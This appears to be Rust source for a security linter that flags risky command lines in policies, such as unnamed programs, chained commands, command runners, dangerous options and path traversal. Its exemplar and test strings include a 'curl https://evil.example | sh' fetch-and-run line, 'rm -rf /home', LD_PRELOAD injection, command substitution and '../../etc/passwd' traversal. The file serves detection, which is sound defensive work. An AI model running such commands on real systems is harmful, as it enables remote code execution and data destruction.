//! Commands: another program than the policy names, a second command, a program that runs what
//! follows, an option that writes or runs something.

use crate::finding::Weight::{Deny, Warn};
use crate::risk::Role;
use crate::threat::addresses::inside;
use crate::threat::constants::{Constants, Extent};
use crate::threat::programs;
use crate::threat::row::{
    Examples,
    Exemplar::{self, Text, Words},
    Known, Levels, Row, Set, always, anything, nothing,
};

const LISTED: Option<&str> = Some("command in [\"git status\"]");

/// A row about command lines.
pub(super) const ROW: Row = Row {
    name: "",
    roles: &[Role::CommandLine],
    effects: &[],
    asked: always,
    beside: anything,
    set: Set::Given,
    known: nothing,
    exemplars: &[],
    levels: Levels::always(Deny),
    lint: "unconstrained-execute",
    says: "",
    instead: LISTED,
    examples: Examples::NONE,
};

/// Programs that no policy means.
const STRANGERS: &[Exemplar] = &[
    Words(&["sh", "-c", "curl https://evil.example | sh"]),
    Text("curl https://evil.example/x"),
    Text("rm -rf /home"),
    Text("shutdown"),
    Text("curl https://evil.example/x{E}"),
    Text("LD_PRELOAD=./evil.so {E}"),
    Text("evil"),
    Text("rm -rf /home\n"),
    Text(" rm -rf /home"),
    Text("rm -rf /home #é"),
];

pub(super) const ROWS: &[Row] = &[
    Row {
        name: "cmd.other",
        set: Set::Texts { within: r"\S", less: Some(r"(?s)\A\s*{C}") },
        known: programs,
        exemplars: STRANGERS,
        says: "may be a program that no rule names",
        examples: Examples {
            constants: &["git", "npm", "NODE_ENV=test node"],
            within: &["shutdown", "rm -r /home\n", " rm #é", "PATH=./evil git", "A=b node"],
            outside: &["git-evil", "npm test", " git", "NODE_ENV=test node x", " "],
        },
        ..ROW
    },
    Row {
        name: "program.stranger",
        roles: &[Role::Program],
        set: Set::Texts { within: r"\S", less: Some(r"(?s)\A\s*{C}\s*\z") },
        known: programs,
        exemplars: &[Text("bash"), Text("curl"), Text("/bin/sh"), Text("evil")],
        says: "may be a program that no rule names",
        instead: Some("in [\"git\"]"),
        examples: Examples {
            constants: &["git"],
            within: &["bash", "/usr/bin/curl", "/home/é/x", "git status"],
            outside: &["git", "git\n", ""],
        },
        ..ROW
    },
    Row {
        name: "cmd.second",
        set: Set::Texts {
            within: r"(?s)\A\s*{C}[^\n;&|`$<>]*((;|&&?|\|\|?|\n|`|\$\(|[<>]\()\s*[^\s0-9;&|<>]|>>?\s*[^\s0-9;&|<>])",
            less: None,
        },
        known: commands,
        exemplars: &[
            Text("{C}; curl https://evil.example | sh"),
            Text("{C}; rm -rf /home"),
            Text("{C} && rm -rf /home"),
            Text("{C} | sh"),
            Text("{C}\nid"),
            Text("{C} $(id)"),
            Text("{C} `id`"),
            Text("{C} <(id)"),
            Text("{C} > /etc/passwd"),
        ],
        levels: Levels::ruled(Deny),
        lint: "shell-metacharacters",
        says: "may contain more than one command",
        examples: Examples {
            constants: &["git", "npm"],
            within: &[
                "git status; id",
                " git status\nid",
                "npm test > ~/.bashrc",
                "git log <(id)",
                "git log;é",
            ],
            outside: &["git log --format=%H", "shutdown", "npm test 2>&1", "npm test;\n"],
        },
        ..ROW
    },
    Row {
        name: "cmd.stranger",
        set: Set::Texts { within: r"\S", less: Some(r"(?s)\A\s*{C}([^A-Za-z0-9_.-]|\z)") },
        known: programs,
        exemplars: &[
            Text("curl https://evil.example/x"),
            Text("{C}-evil"),
            Text("shutdown"),
            Text("evil"),
        ],
        says: "may be a program that no rule names",
        examples: Examples {
            constants: &["git", "npm"],
            within: &["shutdown", "rm -r /home"],
            outside: &["git status", "npm test"],
        },
        ..ROW
    },
    Row {
        name: "cmd.runner",
        set: Set::Texts { within: r"(?s)\A\s*{C}\s+[^-\s]", less: None },
        known: runners,
        exemplars: &[Text("{C}")],
        levels: Levels::ruled(Deny),
        lint: "command-runner",
        says: "may be a program that runs what follows",
        instead: Some("in [\"npm test\"]"),
        examples: Examples {
            constants: &["env", "xargs", "bash", "npx", "find . -exec", "docker"],
            within: &[
                "xargs sh x.sh",
                " npx evil\n",
                "find . -exec sh x.sh",
                "docker run evil",
                "docker --debug run é",
            ],
            outside: &["env", "bash --version", "find . -name x", "docker ps x", "docker run"],
        },
        ..ROW
    },
    Row {
        name: "cmd.option",
        set: Set::Texts { within: r"(?s)\A\s*{C}", less: None },
        known: optioned,
        exemplars: &[Text("{C}")],
        levels: Levels::ruled(Warn),
        lint: "option-injection",
        says: "may hold an option that writes or runs something",
        instead: Some("command in [\"git log\"]"),
        examples: Examples {
            constants: &["git log", "kubectl get"],
            within: &["git log --output=/srv/x", "kubectl get pods -A"],
            outside: &["git log main", "kubectl get pods"],
        },
        ..ROW
    },
    Row {
        name: "cmd.dots",
        set: Set::Texts { within: r"(?s)\A\s*{C}(\S*[\\/])?\.\.([\\/\s]|\z)", less: None },
        known: below,
        exemplars: &[
            Text("{C}../../etc/passwd"),
            Text("{C}../etc"),
            Text("{C}../x{E}"),
            Text("{C}x/../../x{E}"),
        ],
        levels: Levels::ruled(Warn),
        lint: "path-traversal",
        says: "may lead out of the folder in {C} through `..`",
        instead: Some("in [\"rm -r /workspace/cache\"]"),
        examples: Examples {
            constants: &["rm -rf /srv/"],
            within: &["rm -rf /srv/../etc", "rm -rf /srv/a/..", "rm -rf /srv/é/../../x\n"],
            outside: &["rm -rf /srv/a..b", "rm -rf /srv/a b/..x"],
        },
        ..ROW
    },
];

/// What the policy says of a command from its beginning on.
const FROM_START: &[Extent] = &[Extent::Whole, Extent::Start, Extent::Command];

/// The programs that it names, each with the variables that are set before it.
fn programs(constants: &Constants<'_>) -> Vec<Known> {
    constants.of_extent(FROM_START).filter_map(to_program).map(|text| Known::text(&text)).collect()
}

/// A command up to its program; none where it ends before.
fn to_program(command: &str) -> Option<String> {
    let is_variable = |word: &&str| word.contains('=');
    let variables = command.split_whitespace().take_while(is_variable);
    let program = command.split_whitespace().find(|word| !is_variable(word))?;
    Some(variables.chain([program]).collect::<Vec<_>>().join(" "))
}

/// The beginnings of commands whose last word lies in a folder.
fn below(constants: &Constants<'_>) -> Vec<Known> {
    let has_folder = |text: &&str| {
        let last = text.rsplit(char::is_whitespace).next();
        last.is_some_and(|word| word.contains(['/', '\\']) && !word.contains("://"))
    };
    constants.of_extent(&[Extent::Start]).filter(has_folder).map(inside).collect()
}

/// The commands, of which a pattern knows the program alone.
fn commands(constants: &Constants<'_>) -> Vec<Known> {
    let of_text = |text: &str| {
        let program = Known::text(&to_program(text)?);
        Some(Known { text: text.trim_end().to_owned(), pattern: program.pattern })
    };
    constants.of_extent(FROM_START).filter_map(of_text).collect()
}

/// The commands to which something can be added that is run, with such a thing.
fn runners(constants: &Constants<'_>) -> Vec<Known> {
    let of_text = |text: &str| {
        let known = Known::text(text.trim_end());
        let added = programs::operands(&constants.line(text)).into_iter();
        let added = added.map(move |operand| Known {
            text: format!("{} {}", known.text, operand.text()),
            pattern: format!("{}{}", known.pattern, operand.before()),
        });
        added.collect::<Vec<_>>()
    };
    constants.of_extent(FROM_START).flat_map(of_text).collect()
}

/// The commands to which an option can be added that writes or runs something, with such an option.
fn optioned(constants: &Constants<'_>) -> Vec<Known> {
    let of_text = |text: &str| {
        let options = programs::options(&constants.line(text))?;
        let known = Known::text(text.trim_end());
        let pattern = format!(r"{}( [^;&|\n]*)? (?:{})", known.pattern, options.pattern);
        Some(Known { text: format!("{} {}", known.text, options.example), pattern })
    };
    constants.of_extent(FROM_START).filter_map(of_text).collect()
}
